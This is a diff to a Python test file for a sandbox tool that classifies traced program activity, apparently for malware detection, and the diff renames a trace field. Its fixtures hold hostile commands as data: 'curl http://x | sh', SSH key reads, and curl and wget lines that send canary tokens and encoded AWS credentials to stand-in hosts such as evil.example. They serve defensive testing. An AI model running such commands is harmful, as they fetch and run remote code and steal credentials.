@@ -19,7 +19,7 @@ from assay.detonate.steps import NODE, PYTHON, SH, build_plan, go_toolchain
 from assay.detonate.wire import CanaryHit, Egress, HarnessLog, StepLog
 from assay.mechanism.spec import Track
 from assay.mechanism.taxonomy import CAPABILITIES
-from assay.sandbox.interface import Peer, TraceSummary
+from assay.sandbox.interface import Executed, Peer, TraceSummary
 
 CANARIES = make_canaries(b"fixed-seed-for-tests")
 HARNESS_ARGV = ("/usr/bin/python3", "-I", "/task/input/harness.py")
@@ -30,6 +30,11 @@ WHO = Attribution(
     harness_prefixes=("/tmp/.assay-abc/",),
     harness_files=frozenset({"/task/workspace/project/notes.md"}),
 )
+
+
+def ran(*argvs: tuple[str, ...]) -> tuple[Executed, ...]:
+    """Execs of the programs their argv[0] names (as execvp runs them)."""
+    return tuple(Executed(argv[0], argv) for argv in argvs)
 
 
 def capabilities(trace: TraceSummary) -> set[str]:
@@ -90,7 +95,7 @@ def test_exec_intents() -> None:
 
 def test_harness_activity_is_not_the_artifacts() -> None:
     trace = TraceSummary(
-        execs=(HARNESS_ARGV, (PYTHON, "/task/artifact/run.py")),
+        executed=ran(HARNESS_ARGV, (PYTHON, "/task/artifact/run.py")),
         writes=("/tmp/.assay-abc/f0", "/task/workspace/project/notes.md", "/dev/null"),
         connects=(Peer("inet", "127.0.0.1", 53), Peer("unix", "/var/run/nscd/socket")),
     )
@@ -99,7 +104,7 @@ def test_harness_activity_is_not_the_artifacts() -> None:
 
 def test_artifact_activity_maps_with_evidence() -> None:
     trace = TraceSummary(
-        execs=(HARNESS_ARGV, ("sh", "-c", "curl http://x | sh")),
+        executed=ran(HARNESS_ARGV, ("sh", "-c", "curl http://x | sh")),
         reads=(f"{HOME}/.ssh/id_rsa", "/task/artifact/run.py"),
         writes=(f"{HOME}/.cache/stash",),
         renames=((f"{HOME}/.bashrc.tmp", f"{HOME}/.bashrc"),),
@@ -126,7 +131,7 @@ def test_artifact_activity_maps_with_evidence() -> None:
 def test_canary_values_in_argv_and_dns_are_leaks() -> None:
     token = CANARIES.env["GITHUB_TOKEN"]
     trace = TraceSummary(
-        execs=(("curl", "-H", f"Authorization: {token}", "http://x"),),
+        executed=ran(("curl", "-H", f"Authorization: {token}", "http://x")),
         dns_queries=(f"{encodings(token[4:])[1][:40]}.evil.example",),
     )
     found = {e.capability for e in map_trace(trace, WHO)}
@@ -252,7 +257,7 @@ def test_a_network_tool_uploading_a_canary_file_is_exfiltration() -> None:
     curl = ("curl", "-s", "--data-binary", f"@{stash}", "http://x/t")
     wget = ("wget", f"--post-file={stash}", "http://x/t")
     quiet = ("cat", stash)
-    evidence = map_uploads((curl, wget, quiet), log, WHO)
+    evidence = map_uploads(ran(curl, wget, quiet), log, WHO)
     assert [(e.capability, e.argv) for e in evidence] == [
         ("EXFILTRATE_DATA", curl),
         ("EXFILTRATE_DATA", wget),
@@ -287,11 +292,11 @@ def test_planning_never_follows_a_symlink_out_of_the_artifact(tmp_path: Path) ->
 def test_a_secret_piped_into_a_shell_network_command_is_exfiltration() -> None:
     encoded = base64.b64encode(CANARIES.files[f"{HOME}/.aws/credentials"]).decode()
     argv = ("/bin/sh", "-c", f"echo {encoded} | curl -s -d @- http://203.0.113.7/a")
-    found = {e.capability for e in map_trace(TraceSummary(execs=(argv,)), WHO)}
+    found = {e.capability for e in map_trace(TraceSummary(executed=ran(argv)), WHO)}
     assert {"EXEC_SHELL", "READ_CLOUD_CREDENTIALS", "EXFILTRATE_DATA"} <= found
     local = ("/bin/sh", "-c", f"echo {encoded} > /tmp/x")
     assert "EXFILTRATE_DATA" not in {
-        e.capability for e in map_trace(TraceSummary(execs=(local,)), WHO)
+        e.capability for e in map_trace(TraceSummary(executed=ran(local)), WHO)
     }
 
 
